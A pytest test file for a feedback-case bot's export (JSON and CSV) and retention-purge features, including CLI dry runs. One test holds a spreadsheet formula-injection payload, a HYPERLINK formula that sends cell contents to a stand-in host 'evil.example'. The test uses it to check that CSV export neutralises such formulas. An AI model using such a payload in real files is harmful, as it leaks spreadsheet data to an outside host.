"""Export of every case with its history, and the retention rule (gallring) with its dry run, via the CLI too."""

import csv
import io
import json

import pytest
from sqlalchemy import event
from sqlmodel import select

from bot.cases import service
from bot.cases.export import export_cases
from bot.cases.retention import purge, purgeable
from bot.cli import main
from bot.config.cases_model import CaseRetention
from bot.tick import run_tick
from storage.cases import CaseEvent, CasePurge, FeedbackCase
from storage.engine import session_scope
from storage.outbox import Delivery
from tests.cases_support import REPORTER, a_report, register
from tests.conftest import EXAMPLE, local
from tests.service_calls import by


@pytest.fixture
def cases(runtime):
    """Three 2027 cases: one closed early in February, one closed in June, one still open; one 2028 case."""
    engine, config = runtime.engine, runtime.config
    head = config.person("it-chef")
    early = register(engine, config, a_report(category="berom"), local(2027, 2, 1, 9, 0))
    late = register(engine, config, a_report(), local(2027, 2, 2, 9, 0))
    open_case = register(engine, config, a_report(category="fraga", anonymous=True), local(2027, 2, 3, 9, 0))
    register(engine, config, a_report(), local(2028, 1, 10, 9, 0))
    with session_scope(engine) as session:
        service.take(**by(session, config, head), case_id=early.id, now=local(2027, 2, 1, 10, 0))
        service.answer(
            **by(session, config, head), case_id=early.id, text="Tack för berömmet!", now=local(2027, 2, 1, 11, 0)
        )
        service.close(
            **by(session, config, head),
            case_id=early.id,
            resolution="Beröm vidarebefordrat.",
            now=local(2027, 2, 2, 9, 0),
        )
        service.close(**by(session, config, head), case_id=late.id, resolution="Åtgärdat.", now=local(2027, 6, 1, 9, 0))
    run_tick(engine, runtime.senders, config, local(2027, 6, 1, 9, 0))
    return {"early": early, "late": late, "open": open_case}


def test_json_export_has_every_case_with_its_history(engine, cases):
    with session_scope(engine) as session:
        records = json.loads(export_cases(session, 2027, "json"))
    assert [r["number"] for r in records] == ["VMKF 2027-0001", "VMKF 2027-0002", "VMKF 2027-0003"]
    first = records[0]
    assert (first["status"], first["answer"], first["reporter_user_id"]) == ("closed", "Tack för berömmet!", REPORTER)
    assert [(h["kind"], h["actor"]) for h in first["history"]] == [
        ("registered", None),
        ("taken", "it-chef"),
        ("answered", "it-chef"),
        ("closed", "it-chef"),
    ]
    assert first["registered_at"] == "2027-02-01T08:00:00+00:00"
    assert records[2]["anonymous"] is True and records[2]["reporter_user_id"] is None
    with session_scope(engine) as session:
        assert len(json.loads(export_cases(session, None, "json"))) == 4


def test_csv_export_one_row_per_case(engine, cases):
    with session_scope(engine) as session:
        rows = list(csv.DictReader(io.StringIO(export_cases(session, 2027, "csv"))))
    assert [row["number"] for row in rows] == ["VMKF 2027-0001", "VMKF 2027-0002", "VMKF 2027-0003"]
    assert rows[0]["history"].splitlines()[1] == "2027-02-01T09:00:00+00:00 | taken | it-chef | -"
    assert rows[2]["reporter_user_id"] == "" and rows[2]["anonymous"] == "True"


def test_unknown_export_format_is_refused(engine):
    with session_scope(engine) as session, pytest.raises(ValueError, match="unknown export format"):
        export_cases(session, None, "xlsx")


def test_purge_removes_exactly_what_the_dry_run_lists(engine, example_config, cases):
    now = local(2029, 3, 1, 12, 0)  # two years keep: cases closed before 1 March 2027 may go
    with session_scope(engine) as session:
        listed = [case.number for case in purgeable(session, example_config, now)]
    assert listed == ["VMKF 2027-0001"]
    with session_scope(engine) as session:
        removed = [record.number for record in purge(session, example_config, now)]
    assert removed == listed
    with session_scope(engine) as session:
        numbers = sorted(case.number for case in session.exec(select(FeedbackCase)).all())
        events = session.exec(select(CaseEvent).where(CaseEvent.case_id == cases["early"].id)).all()
        deliveries = session.exec(select(Delivery).where(Delivery.item_id == str(cases["early"].id))).all()
        (record,) = session.exec(select(CasePurge)).all()
    assert numbers == ["VMKF 2027-0002", "VMKF 2027-0003", "VMKF 2028-0001"]
    assert events == [] and deliveries == []
    assert (record.number, record.category, record.purged_at) == ("VMKF 2027-0001", "berom", now)
    assert "kept 2 year(s)" in record.rule
    with session_scope(engine) as session:
        assert purge(session, example_config, now) == []  # nothing more until the rule allows it


def test_purge_keeps_categories_outside_the_rule(engine, example_config, cases):
    retention = CaseRetention(keep_years=1, categories=["klagomal"])
    config = example_config.model_copy(
        update={"cases": example_config.cases.model_copy(update={"retention": retention})}
    )
    with session_scope(engine) as session:
        listed = [case.number for case in purgeable(session, config, local(2029, 1, 1, 0, 0))]
    assert listed == ["VMKF 2027-0002"]  # the closed beröm case is outside this rule; open cases never go


def test_cli_export_and_purge(runtime, cases, monkeypatch, capsys, tmp_path):
    monkeypatch.setenv("DATABASE_URL", runtime.settings.database_url)
    monkeypatch.setenv("SAMVERKAN_CONFIG", str(EXAMPLE))
    out = tmp_path / "cases.json"
    assert main(["cases", "export", "--year", "2027", "--format", "json", "--out", str(out)]) == 0
    assert len(json.loads(out.read_text(encoding="utf-8"))) == 3
    assert main(["cases", "export"]) == 0
    assert capsys.readouterr().out.count("VMKF 20") >= 4

    assert main(["cases", "purge", "--dry-run", "--now", "2029-03-01T12:00+01:00"]) == 0
    dry = capsys.readouterr().out
    assert "would remove VMKF 2027-0001 (berom, closed 2027-02-02)" in dry
    assert "1 case(s) closed before 2027-03-01 may be removed; a real run on 2029-03-01" in dry
    with session_scope(runtime.engine) as session:
        assert len(session.exec(select(FeedbackCase)).all()) == 4
    assert main(["cases", "purge", "--now", "2029-03-01T23:30+01:00"]) == 0
    assert "removed VMKF 2027-0001" in capsys.readouterr().out
    with session_scope(runtime.engine) as session:
        assert len(session.exec(select(FeedbackCase)).all()) == 3


def test_cli_purge_rejects_a_bad_time(runtime, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", runtime.settings.database_url)
    monkeypatch.setenv("SAMVERKAN_CONFIG", str(EXAMPLE))
    assert main(["cases", "purge", "--now", "tomorrow"]) == 2
    assert "--now 'tomorrow' is not an ISO-8601 time" in capsys.readouterr().err


def test_csv_export_does_not_let_text_run_as_a_formula(engine, example_config):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    register(engine, example_config, a_report(description=hostile, contact="+46 70 123 45 67"), local(2027, 2, 1, 9))
    register(engine, example_config, a_report(description="@SUM(1+1)"), local(2027, 2, 1, 9))
    register(engine, example_config, a_report(description="-2+3"), local(2027, 2, 1, 9))
    with session_scope(engine) as session:
        rows = list(csv.DictReader(io.StringIO(export_cases(session, 2027, "csv"))))
        records = json.loads(export_cases(session, 2027, "json"))
    assert [row["description"] for row in rows] == ["'" + hostile, "'@SUM(1+1)", "'-2+3"]
    assert rows[0]["contact"] == "'+46 70 123 45 67"
    assert rows[0]["number"] == "VMKF 2027-0001"  # ordinary text is left alone
    assert records[0]["description"] == hostile  # JSON is not read by spreadsheets: unchanged


def test_a_dry_run_and_a_real_run_on_the_same_day_agree(engine, example_config):
    """The cutoff is local midnight: a case crossing the two-year mark later that day is not removed."""
    head = example_config.person("it-chef")
    case = register(engine, example_config, a_report(), local(2027, 2, 1, 9, 0))
    with session_scope(engine) as session:
        service.close(
            **by(session, example_config, head), case_id=case.id, resolution="Klart.", now=local(2027, 2, 2, 10, 0)
        )
    with session_scope(engine) as session:
        assert purgeable(session, example_config, local(2029, 2, 2, 8, 0)) == []
    with session_scope(engine) as session:
        assert purge(session, example_config, local(2029, 2, 2, 23, 0)) == []  # 13 hours later, the same day
    with session_scope(engine) as session:
        assert [r.number for r in purge(session, example_config, local(2029, 2, 3, 0, 5))] == ["VMKF 2027-0001"]


def test_cli_dry_run_prints_the_cutoff_day(runtime, cases, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", runtime.settings.database_url)
    monkeypatch.setenv("SAMVERKAN_CONFIG", str(EXAMPLE))
    assert main(["cases", "purge", "--dry-run", "--now", "2029-06-01T23:59+02:00"]) == 0
    out = capsys.readouterr().out
    assert "removed if closed before 2027-06-01 (local midnight)" in out
    assert "would remove VMKF 2027-0002" not in out  # closed 1 June 2027 09:00, after the cutoff


def test_purge_deletes_many_cases_with_one_statement_per_table(engine, example_config, cases):
    deletes: list[str] = []

    def count(conn, cursor, statement, parameters, context, executemany):
        if statement.lstrip().upper().startswith("DELETE"):
            deletes.append(statement)

    event.listen(engine, "before_cursor_execute", count)
    try:
        with session_scope(engine) as session:
            removed = [record.number for record in purge(session, example_config, local(2029, 7, 1, 12, 0))]
    finally:
        event.remove(engine, "before_cursor_execute", count)
    assert removed == ["VMKF 2027-0001", "VMKF 2027-0002"]
    assert len(deletes) == 3
